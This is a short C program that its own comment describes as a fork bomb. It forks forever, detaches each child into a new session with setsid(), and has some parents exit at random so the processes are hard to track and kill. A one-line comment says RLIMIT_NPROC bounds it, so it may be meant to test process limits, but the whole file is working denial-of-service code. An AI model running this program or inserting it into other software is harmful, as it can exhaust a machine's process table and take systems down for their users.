/* A fork bomb: every process forks and calls setsid(2) for ever, and half of the parents leave at once.
 * RLIMIT_NPROC bounds it. */
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

int main(void)
{
    int first = 1;
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        pid_t pid = fork();
        if (pid == 0) {
            setsid();
            srand((unsigned)getpid());
            first = 0;
        } else if (pid > 0 && !first && rand() % 2) {
            _exit(0);
        }
    }
}
